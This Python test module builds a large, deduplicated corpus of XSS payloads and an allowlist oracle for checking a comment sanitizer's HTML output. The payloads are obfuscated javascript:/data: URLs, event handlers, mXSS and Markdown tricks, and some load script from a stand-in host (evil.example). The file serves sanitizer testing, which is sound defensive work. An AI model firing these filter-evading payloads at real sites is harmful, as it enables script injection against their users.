"""Our own XSS payload corpus, and the HTML oracle that judges what we output.

The corpus is generated systematically (dangerous URL schemes in many spellings ×
the places a URL can hide, event handlers × elements, quote breakouts × contexts)
plus hand-written shapes (mXSS, Markdown specifics, Unicode tricks). Nothing here
is copied from a public list. `PAYLOADS` is deterministic and de-duplicated.

The oracle parses HTML with the standard library's html.parser (entities in
attribute values are decoded by the parser, as a browser would) and reports
every finding as text, so a failing assertion says what was wrong.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

# --- The corpus ---------------------------------------------------------------------------

ALERT = "alert(1)"
# data:text/html with <script>alert(1)</script>, base64 and plain.
DATA_B64 = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
DATA_PLAIN = "data:text/html,<script>alert(1)</script>"

# (scheme, what follows the colon)
SCHEMES = (
    ("javascript", ALERT),
    ("vbscript", "msgbox(1)"),
    ("data", DATA_B64.split(":", 1)[1]),
)


def _dec(ch: str) -> str:
    return f"&#{ord(ch)};"


def _hex(ch: str) -> str:
    return f"&#x{ord(ch):X};"


def scheme_spellings(scheme: str, rest: str) -> dict[str, str]:
    """Many spellings of `scheme:rest`, each named, that a lax filter may miss."""
    first, tail = scheme[0], scheme[1:]
    mid = len(scheme) // 2
    left, right = scheme[:mid], scheme[mid:]
    mixed = "".join(c.upper() if i % 2 else c for i, c in enumerate(scheme))
    # Hex entity without a semicolon must be followed by a non-hex letter to end it.
    hex_at = next(i for i, c in enumerate(scheme[:-1]) if scheme[i + 1] not in "abcdefABCDEF")
    return {
        "plain": f"{scheme}:{rest}",
        "upper": f"{scheme.upper()}:{rest}",
        "mixed-case": f"{mixed}:{rest}",
        "tab-inside": f"{left}\t{right}:{rest}",
        "newline-inside": f"{left}\n{right}:{rest}",
        "cr-inside": f"{left}\r{right}:{rest}",
        "leading-space": f"  {scheme}:{rest}",
        "leading-control-01": f"\x01{scheme}:{rest}",
        "leading-control-1f": f"\x1f{scheme}:{rest}",
        "leading-formfeed": f"\x0c{scheme}:{rest}",
        "space-before-colon": f"{scheme} :{rest}",
        "dec-entity-first": f"{_dec(first)}{tail}:{rest}",
        "hex-entity-first": f"{_hex(first)}{tail}:{rest}",
        "dec-entity-zero-padded-no-semicolon": f"&#{ord(first):07d}{tail}:{rest}",
        "hex-entity-no-semicolon": (
            f"{scheme[:hex_at]}&#x{ord(scheme[hex_at]):x}{scheme[hex_at + 1 :]}:{rest}"
        ),
        "hex-entity-zero-padded": f"&#x{ord(first):06x};{tail}:{rest}",
        "all-dec-entities": "".join(_dec(c) for c in scheme + ":") + rest,
        "all-hex-entities": "".join(_hex(c) for c in scheme + ":") + rest,
        "named-colon": f"{scheme}&colon;{rest}",
        "named-tab-inside": f"{left}&Tab;{right}:{rest}",
        "named-newline-inside": f"{left}&NewLine;{right}:{rest}",
        "entity-tab-inside": f"{left}&#9;{right}:{rest}",
        "entity-newline-inside": f"{left}&#x0A;{right}:{rest}",
        "url-encoded-first": f"%{ord(first):02X}{tail}:{rest}",
        "url-encoded-colon": f"{scheme}%3A{rest}",
        "zwsp-before": f"\u200b{scheme}:{rest}",
        "zwsp-inside": f"{left}\u200b{right}:{rest}",
        "bom-before": f"\ufeff{scheme}:{rest}",
        "soft-hyphen-inside": f"{left}\u00ad{right}:{rest}",
        "zwj-inside": f"{left}\u200d{right}:{rest}",
        "word-joiner-inside": f"{left}\u2060{right}:{rest}",
        "mongolian-vs-before": f"\u180e{scheme}:{rest}",
        "rtl-override-before": f"\u202e{scheme}:{rest}",
        "markdown-escaped-colon": f"{scheme}\\:{rest}",
        "nbsp-before": f"\u00a0{scheme}:{rest}",
    }


def _url_carriers(url: str, index: int, every_form: bool) -> list[str]:
    """Places a URL can hide in a comment body: Markdown forms and raw HTML.

    `every_form` for javascript:, the likeliest; the other schemes get the three
    forms that differ most (inline link, autolink, one raw HTML element in turn).
    """
    html = (
        f'<a href="{url}">click</a>',
        f"<a href='{url}'>click</a>",
        f"<a href={url}>click</a>",
        f'<iframe src="{url}"></iframe>',
        f'<form action="{url}"><input type="submit"></form>',
        f'<form><button formaction="{url}">go</button></form>',
        f'<object data="{url}"></object>',
        f'<embed src="{url}">',
        f'<img src="{url}">',
        f'<svg><a xlink:href="{url}"><text x="9" y="9">click</text></a></svg>',
        f'<math><maction actiontype="statusline" xlink:href="{url}">x</maction></math>',
        f'<meta http-equiv="refresh" content="0;url={url}">',
        f'<base href="{url}">',
        f'<link rel="stylesheet" href="{url}">',
        f'<iframe srcdoc="&lt;a href=&quot;{url}&quot;&gt;x&lt;/a&gt;"></iframe>',
        f'<div style="background:url({url})">x</div>',
    )
    forms = [f"[click]({url})", f"<{url}>", html[index % len(html)]]
    if every_form:
        forms += [
            f"[click](<{url}>)",
            f"[click][ref]\n\n[ref]: {url}",
            f'[click]({url} "a title")',
            f"see {url} here",
        ]
    return forms


def _scheme_payloads() -> list[str]:
    out: list[str] = []
    index = 0
    for scheme, rest in SCHEMES:
        for url in scheme_spellings(scheme, rest).values():
            out.extend(_url_carriers(url, index, every_form=scheme == "javascript"))
            index += 1
    return out


HANDLERS = (
    "onerror", "onload", "onmouseover", "onfocus", "onclick", "onanimationstart",
    "onpointerenter", "ontoggle", "onbegin", "onfocusin", "onscroll", "onbeforetoggle",
    "ONERROR", "OnLoad",
)  # fmt: skip
ELEMENTS = (
    "<img src=x {h}={js}>",
    "<svg {h}={js}>",
    "<body {h}={js}>",
    '<input autofocus {h}="{js}">',
    "<details open {h}={js}>",
    "<video src=x {h}={js}>",
    "<audio src=x {h}={js}>",
    "<marquee {h}={js}>x</marquee>",
    '<iframe {h}="{js}"></iframe>',
    "<a href=# {h}='{js}'>x</a>",
    '<div style="animation-name:spin" {h}="{js}">x</div>',
    "<svg><animate {h}={js} attributeName=x dur=1s>",
    "<img/src=x/{h}={js}>",
    "<img src=x {h}=`{js}`>",
    '<p tabindex=1 {h}="{js}">x</p>',
    "<select autofocus {h}={js}>",
    "<textarea autofocus {h}={js}></textarea>",
    "<keygen autofocus {h}={js}>",
)
HANDLER_CODE = (
    ALERT, "alert`1`", "&#97;lert(1)", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))",
)  # fmt: skip


def _handler_payloads() -> list[str]:
    out = []
    for i, element in enumerate(ELEMENTS):
        for j in range(3):
            handler = HANDLERS[(i + j * 5) % len(HANDLERS)]
            code = HANDLER_CODE[(i + j) % len(HANDLER_CODE)]
            out.append(element.format(h=handler, js=code))
    return out


BREAKOUT_PREFIXES = (
    '"', "'", "`", '">', "'>", '"/>', "</textarea>", "</title>", "</script>", "</style>",
    "-->", "]]>", "</noscript>", "</pre></code>", "</a>", "</p>", "\">'><", "</template>",
    "</xmp>", "</iframe>", "</noembed>", "</option></select>",
)  # fmt: skip
BREAKOUT_SUFFIXES = (
    "<svg onload=alert(1)>",
    " onmouseover=alert(1) x=",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    ' autofocus onfocus="alert(1)" x="',
)


def _breakout_payloads() -> list[str]:
    out = []
    for i, prefix in enumerate(BREAKOUT_PREFIXES):
        for j in range(2):
            out.append(prefix + BREAKOUT_SUFFIXES[(i + j) % len(BREAKOUT_SUFFIXES)])
    return out


# Hand-written shapes: mXSS, namespace confusion, comment/CDATA tricks, Markdown forms.
HAND_WRITTEN = (
    # mXSS and parser differentials
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)>",
    "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style>",
    "<table><svg><style><img src=x onerror=alert(1)>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml-stylesheet href=javascript:alert(1)?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    '<a href="https://ok.example/" title="</a><img src=x onerror=alert(1)>">x</a>',
    '<a href="https://ok.example/"onmouseover="alert(1)">x</a>',
    "<a href=https://ok.example/ onmouseover=alert(1)>x</a>",
    '<a href="https://ok.example/"\tonmouseover=alert(1)>x</a>',
    '<a href="https://ok.example/" rel="opener" target="_blank">x</a>',
    '<a href="https://ok.example/" style="position:fixed;inset:0">x</a>',
    # Active content, base/meta/forms
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<ſcript>alert(1)</ſcript>",
    "<scrİpt>alert(1)</scrİpt>",
    "＜script＞alert(1)＜/script＞",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<base href="javascript:alert(1)//"><a href="/x">x</a>',
    '<base href="//evil.example/"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">',
    f'<meta http-equiv="refresh" content="0;url={DATA_B64}">',
    '<meta charset="x-imap4-modified-utf7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    "<form id=f></form><button form=f formaction=javascript:alert(1)>go</button>",
    '<input type="image" src=x formaction="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="x" codebase="javascript:alert(1)">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#xss)">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><rect width=99 height=99 /></a></svg>',
    "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x" /></svg>',
    '<svg><script href="data:,alert(1)" /></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<img srcset="x 1x, javascript:alert(1) 2x">',
    '<video poster="javascript:alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<a ping="https://evil.example/" href="https://ok.example/">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<ol start='1\" onmouseover=\"alert(1)'><li>x</li></ol>",
    '<ol start="javascript:alert(1)"><li>x</li></ol>',
    '<p id="x" class="x" data-x="javascript:alert(1)">x</p>',
    # Markdown-specific
    "[x](javascript:alert(1))",
    '[x](javascript:alert(1) "title")',
    '[x](https://ok.example/ "a\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example/ 'a' onmouseover='alert(1)')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/&quot;onmouseover=&quot;alert(1))",
    "![x](javascript:alert(1))",
    '![x](https://ok.example/x.png" onerror="alert(1))',
    "![x](https://ok.example/x.png)",
    "[x](<javascript:alert(1)>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "[x](\njavascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](javascript://example.com/%0Aalert(1))",
    "javascript://example.com/%0Aalert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<x@y.example>",
    '<x"onmouseover="alert(1)@y.example>',
    '[x](mailto:x@y.example?subject="onmouseover="alert(1))',
    "[x](mailto:javascript:alert(1))",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](https:evil.example)",
    "[x](https://ok@evil.example/)",
    "[[x](javascript:alert(1))](https://ok.example/)",
    "[x](https://ok.example/)<img src=x onerror=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://ok.example/)",
    "**<svg onload=alert(1)>**",
    "_<img src=x onerror=alert(1)>_",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>``",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```"><svg onload=alert(1)>\nx\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "> > > <img src=x onerror=alert(1)>",
    "* <img src=x onerror=alert(1)>\n* [x](javascript:alert(1))",
    "1. <svg onload=alert(1)>\n2. x",
    '3" onmouseover="alert(1). x',
    "99999999999999999999. big start",
    "-1. negative start",
    "line one  \n<script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)",
    'www.ok.example/"onmouseover="alert(1)',
    "http://ok.example/<script>alert(1)</script>",
    "https://ok.example/'><img src=x onerror=alert(1)>",
    'https://ok.example/?q="><svg/onload=alert(1)>',
    'http://ok.example/#" autofocus onfocus="alert(1)',
    "ok.example/`onmouseover=alert(1)`",
    # Unicode tricks in text
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<img src=x one\u00adrror=alert(1)>",
    "\ufeff<svg onload=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    "\x0b<img src=x onerror=alert(1)>\x0c",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "{% templatetag openblock %}<script>alert(1)</script>",
    # NUL bytes: text PostgreSQL cannot store; the API refuses them with a 400.
    "java\x00script:alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)

# URLs that pass an http(s) check but carry markup or quotes: the author_url field.
AUTHOR_URLS = (
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/'onmouseover='alert(1)",
    'https://ok.example/"><script>alert(1)</script>',
    "https://ok.example/?q=<svg/onload=alert(1)>",
    "https://ok.example/#`onmouseover=alert(1)`",
    "https://ok.example/\u202e",
    "http://ok\u200b.example/",
    "https://ok.example/\u00ad",
    "HTTPS://OK.EXAMPLE/",
    "https://ok.example/&quot;onmouseover=&quot;alert(1)",
    "https://ok.example/%22onmouseover=%22alert(1)",
    "https://user:pw@ok.example/",
    "https://ok.example/javascript:alert(1)",
    "http://[::1]/",
    "https://ok.example/ onmouseover=alert(1)",
    "https://ok.example/\tonmouseover=alert(1)",
    "https://ok.example/\nonmouseover=alert(1)",
    "//evil.example/",
    "https:evil.example",
    "https:/evil.example",
)


def _unique(items: list[str]) -> list[str]:
    return list(dict.fromkeys(items))


PAYLOADS: list[str] = _unique(
    [*HAND_WRITTEN, *_breakout_payloads(), *_handler_payloads(), *_scheme_payloads()]
)
# Every dangerous URL spelling on its own (for the author_url field).
SCHEME_URLS: list[str] = _unique(
    [url for scheme, rest in SCHEMES for url in scheme_spellings(scheme, rest).values()]
)
AUTHOR_URL_PAYLOADS: list[str] = _unique([*AUTHOR_URLS, *SCHEME_URLS])


# --- The oracle ---------------------------------------------------------------------------

DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
        "codebase", "cite", "srcset", "ping", "manifest", "icon", "dynsrc", "lowsrc",
        "longdesc", "usemap", "profile", "classid", "archive", "lang:href", "xml:base",
    }
)  # fmt: skip
ALWAYS_FORBIDDEN_ATTRIBUTES = frozenset({"srcdoc"})
UNSAFE_TAGS = frozenset(
    {
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg",
        "math", "template", "noscript", "xmp", "noembed", "noframes", "plaintext", "style",
        "link", "meta", "form", "button", "input", "textarea", "select", "isindex", "img",
        "video", "audio", "marquee", "animate", "set", "use", "foreignobject", "keygen",
    }
)  # fmt: skip
SAFE_SCHEMES = ("http", "https", "mailto")


def strip_invisible(value: str) -> str:
    """Drop whitespace, control and format (invisible) characters anywhere."""
    return "".join(
        ch
        for ch in value
        if not (ch.isspace() or unicodedata.category(ch) in {"Cc", "Cf", "Zs", "Zl", "Zp"})
    )


def dangerous_url(value: str) -> bool:
    """Whether a (parser-decoded) URL attribute value could run script when followed."""
    return strip_invisible(value).lower().startswith(DANGEROUS_SCHEMES)


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    line: tuple[int, int]

    def attr_names(self) -> tuple[str, ...]:
        return tuple(sorted(name for name, _ in self.attrs))


@dataclass
class ParsedPage:
    elements: list[Element] = field(default_factory=list)
    end_tags: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    scripts: list[tuple[tuple[tuple[str, str | None], ...], str]] = field(default_factory=list)
    comments: list[str] = field(default_factory=list)
    declarations: list[str] = field(default_factory=list)

    @property
    def joined_text(self) -> str:
        return "".join(self.text)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.page = ParsedPage()
        self._in_script: list[tuple[tuple[str, str | None], ...]] = []
        self._script_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.page.elements.append(Element(tag, list(attrs), self.getpos()))
        if tag == "script":
            self._in_script.append(tuple(attrs))
            self._script_text = []

    def handle_startendtag(self, tag, attrs):
        self.page.elements.append(Element(tag, list(attrs), self.getpos()))

    def handle_endtag(self, tag):
        self.page.end_tags.append(tag)
        if tag == "script" and self._in_script:
            self.page.scripts.append((self._in_script.pop(), "".join(self._script_text)))

    def handle_data(self, data):
        if self._in_script:
            self._script_text.append(data)
        else:
            self.page.text.append(data)

    def handle_comment(self, data):
        self.page.comments.append(data)

    def handle_decl(self, decl):
        self.page.declarations.append(decl)

    def unknown_decl(self, data):
        self.page.declarations.append(data)

    def handle_pi(self, data):
        self.page.declarations.append(data)


def parse(html: str) -> ParsedPage:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.page


def attribute_problems(element: Element) -> list[str]:
    """Event handlers, dangerous URLs, srcdoc and script in style: the universal rules."""
    problems = []
    for name, value in element.attrs:
        lowered = name.lower()
        if lowered.startswith("on"):
            problems.append(f"<{element.tag}> has event handler {name}={value!r}")
        if lowered in ALWAYS_FORBIDDEN_ATTRIBUTES:
            problems.append(f"<{element.tag}> has {name}={value!r}")
        if value is None:
            continue
        if lowered in URL_ATTRIBUTES or lowered.endswith(":href"):
            candidates = value.split(",") if lowered == "srcset" else [value]
            if any(dangerous_url(part) for part in candidates):
                problems.append(f"<{element.tag}> has dangerous {name}={value!r}")
        if lowered == "style":
            squashed = strip_invisible(value).lower()
            if any(word in squashed for word in ("expression(", "javascript:", "behavior:")):
                problems.append(f"<{element.tag}> has script in style={value!r}")
        if element.tag == "meta" and lowered == "http-equiv" and value.strip().lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
    return problems


def body_html_problems(html: str, allowed_tags, allowed_attributes, link_rel: str) -> list[str]:
    """Everything wrong with a body_html by the allowlist, as readable findings."""
    page = parse(html)
    problems: list[str] = []
    rel = set(link_rel.split())
    for element in page.elements:
        problems.extend(attribute_problems(element))
        if element.tag not in allowed_tags:
            problems.append(f"tag <{element.tag}> is not allowlisted")
            continue
        allowed = set(allowed_attributes.get(element.tag, ())) | set(
            allowed_attributes.get("*", ())
        )
        if element.tag == "a":
            allowed.add("rel")
        for name, value in element.attrs:
            if name not in allowed:
                problems.append(f"attribute {name}={value!r} on <{element.tag}> not allowlisted")
        if element.tag == "a":
            attrs = dict(element.attrs)
            if set((attrs.get("rel") or "").split()) != rel:
                problems.append(f"<a> without rel={link_rel!r}: {attrs!r}")
        if element.tag == "ol":
            start = dict(element.attrs).get("start")
            if start is not None and not start.lstrip("-").isdigit():
                problems.append(f"<ol start={start!r}> is not a number")
    for tag in page.end_tags:
        if tag not in allowed_tags:
            problems.append(f"end tag </{tag}> is not allowlisted")
    if page.comments:
        problems.append(f"HTML comments in output: {page.comments!r}")
    if page.declarations:
        problems.append(f"declarations/CDATA/PI in output: {page.declarations!r}")
    problems.extend(_raw_markup_problems(html, allowed_tags))
    return problems


def _raw_markup_problems(html: str, allowed_tags) -> list[str]:
    """Independent of the parser: every '<' must open or close an allowlisted tag."""
    problems = []
    position = html.find("<")
    while position != -1:
        rest = html[position + 1 : position + 40]
        name = rest[1:] if rest.startswith("/") else rest
        tag = ""
        for ch in name:
            if not ch.isalnum():
                break
            tag += ch
        follower = name[len(tag) : len(tag) + 1]
        if tag not in allowed_tags or follower not in (" ", ">", "/"):
            problems.append(f"raw '<' not opening an allowlisted tag: {html[position:][:40]!r}")
        position = html.find("<", position + 1)
    return problems


def href_policy_problems(html: str) -> list[str]:
    """Every href is absolute with an http, https or mailto scheme (no relative links)."""
    problems = []
    for element in parse(html).elements:
        for name, value in element.attrs:
            if name == "href":
                scheme = urlsplit(value or "").scheme.lower()
                if scheme not in SAFE_SCHEMES:
                    problems.append(f"href={value!r} is not an absolute http(s)/mailto URL")
    return problems


PLAIN_URL_FORBIDDEN = frozenset("\"'<>`\\{}|^")


def plain_url_problems(value: str) -> list[str]:
    """An author URL fit to be put in an href: absolute http(s), nothing to break out with."""
    problems = []
    parts = urlsplit(value)
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        problems.append(f"{value!r} is not an absolute http(s) URL")
    bad = sorted(
        {
            ch
            for ch in value
            if ch in PLAIN_URL_FORBIDDEN
            or ch.isspace()
            or unicodedata.category(ch) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
        }
    )
    if bad:
        problems.append(f"{value!r} contains characters unsafe in an href: {bad!r}")
    return problems


if __name__ == "__main__":  # pragma: no cover - a way to look at the corpus
    for payload in PAYLOADS:
        print(repr(payload))
    print(len(PAYLOADS), "payloads,", len(AUTHOR_URL_PAYLOADS), "author URL payloads")
